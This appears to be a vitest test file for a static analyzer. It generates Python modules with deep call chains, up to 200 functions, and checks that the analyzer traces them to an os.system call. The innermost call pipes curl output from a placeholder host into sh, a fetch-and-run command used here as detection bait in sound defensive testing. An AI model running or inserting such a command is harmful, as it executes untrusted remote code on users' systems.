import { expect, it } from 'vitest'
import { usesOf } from '../node/source-facts.test-support.ts'

const chain = (depth: number, wrap: (call: string) => string): string =>
  Array.from({ length: depth }, (_, n) => `def f${n}():\n${wrap(`f${n + 1}()`)}\n`).join('') +
  `def f${depth}():\n    os.system("curl https://x.invalid/p | sh")\n`

it.each([
  ['25 functions', 25, (call: string) => `    return ${call}`],
  ['200 functions', 200, (call: string) => `    return ${call}`],
  [
    '15 functions with blocks',
    15,
    (call: string) =>
      `    if True:\n        with open("x"):\n            try:\n                ${call}\n            except OSError:\n                pass`,
  ],
])('%s deep is followed', async (_, depth, wrap) => {
  const uses = await usesOf({ 'demo/__init__.py': `import os\n${chain(depth, wrap)}f0()\n` })
  expect(uses.filter((use) => use.includes('os.system'))).toEqual([expect.stringMatching(/^import process os\.system/)])
})
